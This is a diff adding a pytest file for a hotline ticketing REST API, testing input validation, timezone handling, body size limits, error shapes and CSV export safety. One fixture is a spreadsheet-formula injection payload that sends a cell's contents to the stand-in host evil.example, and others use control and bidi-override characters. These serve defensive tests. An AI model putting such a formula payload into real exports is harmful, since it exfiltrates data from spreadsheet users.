@@ -1,0 +1,199 @@
+"""Input that used to break reports or pollute data, through the REST API on both backends:
+free-text categories, naive dates, spreadsheet formulas, control characters, Unicode
+digits, chunked oversized bodies, and the error shape the OpenAPI document promises."""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterator
+from datetime import datetime, timedelta
+from zoneinfo import ZoneInfo
+
+import jsonschema
+import pytest
+from fastapi.testclient import TestClient
+from sqlalchemy import select
+
+from config import Settings
+from hotline.app import create_app
+from tests.support.city import City
+from ticketing.models import Ticket
+
+
+@pytest.fixture
+def client(settings: Settings, city: City) -> Iterator[TestClient]:
+    with TestClient(create_app(settings), raise_server_exceptions=True) as c:
+        yield c
+
+
+def auth(city: City, user: str) -> dict[str, str]:
+    return {"Authorization": f"Bearer {city.tokens[user]}"}
+
+
+def create(client: TestClient, city: City, **body: object):
+    payload = {"caller_phone": "13811112222", "demand": "朝阳区望京西园三区5号楼停水了", **body}
+    return client.post("/api/v1/tickets", json=payload, headers=auth(city, "operator"))
+
+
+def export_rows(client: TestClient, city: City) -> list[dict[str, str]]:
+    r = client.get("/api/v1/export.csv", headers=auth(city, "operator"))
+    assert r.status_code == 200, r.text
+    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
+
+
+def test_unknown_category_is_refused_and_old_rows_still_export(
+    client: TestClient, city: City
+) -> None:
+    r = create(client, city, category="bogus")
+    assert r.status_code == 422 and r.json()["field"] == "category"
+    assert create(client, city, category="water").status_code == 201
+    with city.sessions() as s:  # a row stored before categories were checked
+        s.scalars(select(Ticket)).one().category = "bogus"
+        s.commit()
+    rows = export_rows(client, city)
+    assert [row["分类"] for row in rows] == ["bogus"]
+
+
+def test_naive_since_and_until_are_the_hotlines_local_time(
+    client: TestClient, city: City, settings: Settings
+) -> None:
+    assert create(client, city, category="water", address="朝阳区望京西园三区5号楼").status_code == 201
+    assert create(client, city, category="water", caller_phone="13900001111",
+                  address="朝阳区望京西园三区5号楼").status_code == 201
+    local_now = datetime.now(ZoneInfo(settings.timezone)).replace(tzinfo=None)
+    # An hour ago in Beijing; read as UTC it would be seven hours ahead and count nothing.
+    an_hour_ago = (local_now - timedelta(hours=1)).isoformat(timespec="seconds")
+    sup = auth(city, "supervisor")
+    r = client.get("/api/v1/stats", params={"since": an_hour_ago}, headers=sup)
+    assert r.status_code == 200 and r.json()["tickets"] == 2
+    r = client.get("/api/v1/stats", params={"until": an_hour_ago}, headers=sup)
+    assert r.status_code == 200 and r.json()["tickets"] == 0
+    r = client.get("/api/v1/hotspots", params={"since": an_hour_ago}, headers=sup)
+    assert r.status_code == 200 and r.json()[0]["tickets"] == 2
+    # A local midnight of year 1 is in year 0 in UTC, which no datetime holds.
+    r = client.get("/api/v1/stats", params={"since": "0001-01-01T00:00:00"}, headers=sup)
+    assert r.status_code == 422 and r.json()["field"] == "query.since"
+
+
+def test_export_neutralises_spreadsheet_formulas(client: TestClient, city: City) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    assert create(client, city, category="water", demand=formula,
+                  caller_name="@SUM(1+1)", subject="-2+3").status_code == 201
+    row = export_rows(client, city)[0]
+    assert row["诉求内容"] == "'" + formula
+    assert row["姓名"] == "'@SUM(1+1)" and row["标题"] == "'-2+3"
+    assert row["分类"] == "供水"  # ordinary cells are untouched
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("demand", "停水\x00了"),
+        ("demand", "停水了\u202e（反向）"),
+        ("demand", "停水\u2066了\u2069"),
+        ("demand", "停水\x1b[31m了"),
+        ("caller_name", "王\n先生"),
+        ("caller_name", "王\u202d先生"),
+        ("address", "望京\r西园"),
+        ("subject", "停\x07水"),
+    ],
+)
+def test_control_and_bidi_characters_are_refused(
+    client: TestClient, city: City, field: str, value: str
+) -> None:
+    r = create(client, city, category="water", **{field: value})
+    assert r.status_code == 422, r.text
+    assert r.json()["field"] == field and r.json()["error"] == "invalid_input"
+    with city.sessions() as s:
+        assert s.scalars(select(Ticket)).first() is None
+
+
+def test_multiline_text_keeps_its_lines_and_actions_check_their_text(
+    client: TestClient, city: City
+) -> None:
+    r = create(client, city, category="water", demand="停水了\r\n三天没来水\r\n请尽快处理")
+    assert r.status_code == 201 and r.json()["demand"] == "停水了\n三天没来水\n请尽快处理"
+    n = r.json()["number"]
+    h = auth(city, "water-handler")
+    assert client.post(f"/api/v1/tickets/{n}/sign", headers=h).status_code == 200
+    r = client.post(f"/api/v1/tickets/{n}/reply", json={"text": "已处理\u202e"}, headers=h)
+    assert r.status_code == 422 and r.json()["field"] == "text"
+    r = client.post(f"/api/v1/tickets/{n}/return", json={"reason": "非本单位\x00"}, headers=h)
+    assert r.status_code == 422 and r.json()["field"] == "reason"
+    r = client.post(f"/api/v1/tickets/{n}/reply", json={"text": "已抢修\n恢复供水"}, headers=h)
+    assert r.status_code == 200 and r.json()["reply_text"] == "已抢修\n恢复供水"
+
+
+@pytest.mark.parametrize("ref", ["²", "٣", "１２"])
+def test_unicode_digits_in_a_ticket_ref_are_not_found(
+    client: TestClient, city: City, ref: str
+) -> None:
+    op = auth(city, "operator")
+    r = client.post(f"/api/v1/tickets/{ref}/accept", headers=op)
+    assert r.status_code == 404 and r.json()["error"] == "not_found"
+    assert client.get(f"/api/v1/tickets/{ref}", headers=op).status_code == 404
+
+
+def test_chunked_oversized_body_is_413(client: TestClient, city: City,
+                                       settings: Settings) -> None:
+    def chunks() -> Iterator[bytes]:
+        yield b'{"caller_phone": "13800000000", "demand": "'
+        yield "停".encode() * (settings.max_body_bytes // 3 + 1)
+        yield b'"}'
+
+    headers = {**auth(city, "operator"), "Content-Type": "application/json"}
+    r = client.post("/api/v1/tickets", content=chunks(), headers=headers)
+    assert "content-length" not in r.request.headers  # sent chunked
+    assert r.status_code == 413 and r.json()["error"] == "body_too_large"
+    small = iter([b'{"caller_phone": "13800000000", ', '"demand": "朝阳区停水了"}'.encode()])
+    r = client.post("/api/v1/tickets", content=small, headers=headers)
+    assert r.status_code == 201, r.text
+
+
+def test_every_error_has_the_documented_shape(client: TestClient, city: City) -> None:
+    spec = client.get("/openapi.json").json()
+    assert "HTTPValidationError" not in spec["components"]["schemas"]
+    ref = {"$ref": "#/components/schemas/ErrorOut"}
+    for path, methods in spec["paths"].items():
+        for method, op in methods.items():
+            if "422" in op["responses"]:
+                body = op["responses"]["422"]["content"]["application/json"]["schema"]
+                assert body == ref, (method, path)
+    responses = spec["paths"]["/api/v1/tickets/{ref}/accept"]["post"]["responses"]
+    assert {"401", "403", "404", "409", "422"} <= set(responses)
+    answers = [
+        client.get("/api/v1/tickets"),  # no token
+        client.get("/api/v1/tickets", headers={"Authorization": "Bearer nope"}),
+        client.get("/api/v1/stats", headers=auth(city, "water-handler")),  # role
+        client.get("/api/v1/stats?unit=nope", headers=auth(city, "supervisor")),
+        client.get("/api/v1/tickets?page=0", headers=auth(city, "operator")),
+        create(client, city, caller_phone="x"),
+    ]
+    assert [a.status_code for a in answers] == [401, 401, 403, 404, 422, 422]
+    error_schema = {**spec["components"]["schemas"]["ErrorOut"],
+                    "components": spec["components"]}
+    for a in answers:
+        jsonschema.validate(a.json(), error_schema)
+        assert a.json()["error"] and a.json()["detail"]
+    assert answers[0].headers["www-authenticate"] == "Bearer"
+
+
+def test_review_notes_follow_the_text_rule(client: TestClient, city: City) -> None:
+    from outbound.models import SurveyReview
+
+    n = create(client, city, category="water").json()["number"]
+    with city.sessions() as s:
+        t = s.scalars(select(Ticket).where(Ticket.number == n)).one()
+        review = SurveyReview(ticket_id=t.id, closure_round=1, reason="dissatisfied")
+        s.add(review)
+        s.commit()
+        rid = review.id
+    sup = auth(city, "supervisor")
+    url = f"/api/v1/outbound/reviews/{rid}/resolve"
+    r = client.post(url, json={"note": "已回访\x00"}, headers=sup)
+    assert r.status_code == 422 and r.json()["field"] == "note"
+    r = client.post(f"/api/v1/outbound/reviews/{2**63}/resolve", json={"note": "x"}, headers=sup)
+    assert r.status_code == 422 and r.json()["field"] == "path.review_id"
+    r = client.post(url, json={"note": "已回访核实"}, headers=sup)
+    assert r.status_code == 200 and r.json()["note"] == "已回访核实"
